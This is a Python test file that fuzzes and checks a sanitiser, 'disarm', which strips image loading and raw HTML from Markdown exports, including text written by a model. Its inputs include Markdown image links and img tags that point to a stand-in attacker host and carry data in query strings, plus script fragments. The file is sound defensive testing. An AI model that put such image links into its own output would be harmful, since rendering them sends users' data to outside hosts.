"""Exported Markdown loads nothing, whatever a model wrote: an independent parser reads it."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from discreet.data_rights.exports.inert_markdown import disarm

PIECES = (
    "![a](https://evil.example/?q=b)", "!", "[", "![a][b]", "[b]: https://evil.example/b", "`", "```", "~~~", "````",
    "\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "<img src=https://evil.example>", "<div>", "</div>", "<!--", "-->",
    "<pre>", "<script>", "<?", "?>", "<https://example.org>", "\\", "a", "# ", "***", "\r", "&lt;", "|-|-|", "<![CDATA[",
)  # fmt: skip

IMAGE = "![a](https://evil.example/?q=b)"
INDENTS = ("", " ", "  ", "   ", "    ", "\t", "- ", "+ ", "1. ", "> ")
LINES = (
    *(f"{indent}```" for indent in INDENTS), *(f"{indent}~~~" for indent in INDENTS),
    "````", "```js", "``` ", "```a`", "text", "", "- a",
    IMAGE, f"  {IMAGE}", f"    {IMAGE}", f"> {IMAGE}", "<img src=x>",
)  # fmt: skip


def kinds(markdown: str) -> set[str]:
    """Of the tokens that a reader makes of it."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table"]).parse(markdown)
    return {child.type for token in tokens for child in (token, *(token.children or ()))}


pieces = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)
lines = st.lists(st.sampled_from(LINES), max_size=8).map("\n".join)
"""Mostly fences, open and closed, around images and HTML."""


@given(pieces | lines)
@settings(max_examples=3000, deadline=None, database=None)
def test_no_reader_finds_an_image_or_html_in_it(text: str) -> None:
    assert not kinds(disarm(text)) & {"image", "html_inline", "html_block"}, repr(text)


@pytest.mark.parametrize(
    ("written", "leaves"),
    [
        ("See ![a map](https://evil.example/m.png?q=Ben).", "See [a map](https://evil.example/m.png?q=Ben)."),
        ("!![a](b)", "[a](b)"),
        ("<img src='https://evil.example'>", "&lt;img src='https://evil.example'>"),
        ("<https://example.org> and 1 < 2", "<https://example.org> and 1 < 2"),
        ("```html\n<img> ![a](b)\n```\n![a](b)", "```html\n<img> ![a](b)\n```\n[a](b)"),
        ("Done!", "Done!"),
        ("```\ncode\n ```\n![a](b)", "```\ncode\n ```\n[a](b)"),
        ("```\ncode\u2028```\n![a](b)", "```\ncode\n```\n[a](b)"),
        (" ```\n```\n![a](b)", " ```\n```\n[a](b)"),
        ("- ```\n  <p>\n  ```\n\n```\n<p>\n```", "- ```\n  &lt;p>\n  ```\n\n```\n&lt;p>\n```"),
        ("````\n```\n<p>\n```\n````\n<p>", "````\n```\n<p>\n```\n````\n&lt;p>"),
    ],
)
def test_the_rest_stays_as_it_was_written(written: str, leaves: str) -> None:
    assert disarm(written) == leaves
